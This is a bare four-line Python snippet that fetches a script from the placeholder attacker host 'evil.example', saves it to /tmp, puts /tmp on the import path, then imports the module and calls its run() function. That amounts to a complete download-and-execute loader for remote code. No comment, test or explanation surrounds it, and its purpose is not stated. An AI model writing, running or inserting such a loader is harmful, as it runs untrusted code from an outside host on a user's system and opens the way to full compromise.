import sys, importlib, requests
open("/tmp/plug.py", "w").write(requests.get("https://evil.example/plug.py").text)
sys.path.insert(0, "/tmp")
importlib.import_module("plug").run()
